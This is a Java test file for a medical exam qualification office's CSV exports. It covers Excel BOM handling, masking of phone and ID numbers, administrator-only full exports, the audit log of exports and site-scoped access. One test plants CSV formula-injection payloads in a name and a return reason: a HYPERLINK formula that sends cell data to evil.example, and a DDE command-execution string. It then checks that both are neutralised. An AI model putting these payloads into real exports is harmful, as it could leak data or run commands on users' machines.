package cn.medexam.qualification.office;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.httpBasic;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;

import cn.medexam.qualification.checklist.Checklists;
import cn.medexam.qualification.review.Verdict;
import cn.medexam.qualification.support.Api;
import cn.medexam.qualification.support.Applicant;
import cn.medexam.qualification.support.CaseDriver;
import cn.medexam.qualification.support.EngineTest;
import cn.medexam.qualification.support.TestUsers;
import com.fasterxml.jackson.databind.JsonNode;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ThreadLocalRandom;
import org.camunda.bpm.engine.impl.util.ClockUtil;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.autoconfigure.web.servlet.AutoConfigureMockMvc;
import org.springframework.test.web.servlet.MvcResult;

/** The office's CSV lists: Excel's BOM, one row per case, masked unless an administrator asks, every export kept. */
@EngineTest
@AutoConfigureMockMvc
class CaseExportsTest {

    final String site = "E" + ThreadLocalRandom.current().nextInt(10_000_000, 99_999_999);

    @Autowired
    Api api;

    @Autowired
    CaseDriver cases;

    @Autowired
    TestUsers users;

    @Autowired
    Checklists checklists;

    Applicant waiting = applicant("13912340001");
    Applicant returned = applicant("13912340002");
    Applicant passed = applicant("13912340003");

    @BeforeEach
    void threeCases() {
        users.ensureExist();
        cases.clockAt(CaseDriver.DURING_UPLOAD);
        cases.register(waiting);
        cases.submittedAndReviewOpen(returned);
        cases.submittedAndReviewOpen(passed);
        cases.returnMaterials(
                returned, Map.of(checklists.requiredCodes(returned.candidateNo).get(0), "毕业证编号无法辨别，请重新上传！"));
        cases.siteReview(passed, Verdict.pass());
    }

    @AfterEach
    void resetClock() {
        ClockUtil.reset();
    }

    @Test
    void everyCaseOneRowMaskedWithABomForExcel() throws Exception {
        MvcResult result = csv("/api/admin/cases.csv", TestUsers.REGION_REVIEWER, "", 200);
        assertThat(result.getResponse().getContentType()).isEqualTo("text/csv; charset=UTF-8");
        byte[] bytes = result.getResponse().getContentAsByteArray();
        assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        List<String> lines = lines(result);
        assertThat(lines.get(0)).isEqualTo("考生编号,姓名,证件号码,手机号,考点,状态,锁定时间,退回次数,序列号,截止时间");
        assertThat(lines).hasSize(4);
        String returnedRow = row(lines, returned);
        assertThat(returnedRow).contains("测试考生", "3701************".substring(0, 4), "139****0002", "已退回", ",1,");
        assertThat(returnedRow).doesNotContain("13912340002", "370102199001011234");
        assertThat(row(lines, passed)).contains("初审通过").containsPattern(",\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2},0,\\S+,");
        assertThat(row(lines, waiting)).contains("未提交");

        List<String> onlyReturned = lines(csv("/api/admin/cases.csv", TestUsers.ADMIN, "&status=RETURNED", 200));
        assertThat(onlyReturned).hasSize(2);
    }

    @Test
    void fullPhonesForAdministratorsOnlyAndEveryExportIsRecorded() throws Exception {
        csv("/api/admin/cases.csv", TestUsers.REGION_REVIEWER, "&phones=full", 403);
        List<String> lines = lines(csv("/api/admin/cases.csv", TestUsers.ADMIN, "&phones=full", 200));
        assertThat(row(lines, returned)).contains("13912340002");

        JsonNode recorded = api.call(get("/api/admin/exports"), TestUsers.ADMIN, TestUsers.PASSWORD, 200);
        JsonNode newest = recorded.get(0);
        assertThat(newest.path("exportedBy").asText()).isEqualTo(TestUsers.ADMIN);
        assertThat(newest.path("fullPhones").asBoolean()).isTrue();
        assertThat(newest.path("site").asText()).isEqualTo(site);
        assertThat(newest.path("region").asText()).isEqualTo("SHANDONG");
        assertThat(newest.path("rows").asInt()).isEqualTo(3);
        api.call(get("/api/admin/exports"), TestUsers.REGION_REVIEWER, TestUsers.PASSWORD, 403);
    }

    @Test
    void serialNumbersAndTheReturnedList() throws Exception {
        List<String> serials = lines(csv("/api/admin/serial-numbers.csv", TestUsers.ADMIN, "", 200));
        assertThat(serials).hasSize(2);
        assertThat(serials.get(1)).contains(passed.candidateNo, "初审通过");

        List<String> returns = lines(csv("/api/admin/returned.csv", TestUsers.ADMIN, "", 200));
        assertThat(returns).hasSize(2);
        assertThat(returns.get(1)).contains(returned.candidateNo, "毕业证编号无法辨别，请重新上传！");
    }

    @Test
    void aNameOrReasonThatLooksLikeAFormulaStaysTextInExcel() throws Exception {
        Applicant formula = applicant("13912340004");
        formula.name = "=HYPERLINK(\"http://evil.example/\"&A1,\"点击查看\")";
        cases.submittedAndReviewOpen(formula);
        cases.returnMaterials(
                formula, Map.of(checklists.requiredCodes(formula.candidateNo).get(0), "@SUM(1+1)*cmd|' /C calc'!A0"));

        String row = row(lines(csv("/api/admin/cases.csv", TestUsers.ADMIN, "", 200)), formula);
        assertThat(row).contains(",\"'=HYPERLINK(").doesNotContain(",\"=HYPERLINK(");
        String returnedRow = row(lines(csv("/api/admin/returned.csv", TestUsers.ADMIN, "", 200)), formula);
        assertThat(returnedRow).contains(",\"'=HYPERLINK(");
        assertThat(CaseExports.inert("-2+3")).isEqualTo("'-2+3");
        assertThat(CaseExports.inert("+86 139")).isEqualTo("'+86 139");
        assertThat(CaseExports.inert("\t=1")).isEqualTo("'\t=1");
        assertThat(CaseExports.inert("测试考生")).isEqualTo("测试考生");
        assertThat(CaseExports.inert(3)).isEqualTo(3);
    }

    @Test
    void aSiteReviewerExportsTheirSiteOnly() throws Exception {
        csv("/api/admin/cases.csv", TestUsers.SITE_REVIEWER, "", 404);
        csv("/api/admin/cases.csv", TestUsers.OTHER_REGION_REVIEWER, "", 404);
        csv("/api/admin/cases.csv", TestUsers.REGISTRAR, "", 404);
    }

    private MvcResult csv(String path, String user, String query, int status) throws Exception {
        return api.perform(
                get(path + "?region=SHANDONG&year=2026&site=" + site + query).with(httpBasic(user, TestUsers.PASSWORD)),
                status);
    }

    private static List<String> lines(MvcResult result) throws Exception {
        String text = result.getResponse().getContentAsString(StandardCharsets.UTF_8);
        return List.of(text.substring(1).split("\r\n"));
    }

    private static String row(List<String> lines, Applicant applicant) {
        return lines.stream()
                .filter(line -> line.startsWith(applicant.candidateNo + ","))
                .findFirst()
                .orElseThrow(() -> new AssertionError(applicant.candidateNo + " not in " + lines));
    }

    private Applicant applicant(String phone) {
        Applicant applicant = Applicant.shandongBachelor();
        applicant.examSite = site;
        applicant.phone = phone;
        return applicant;
    }
}
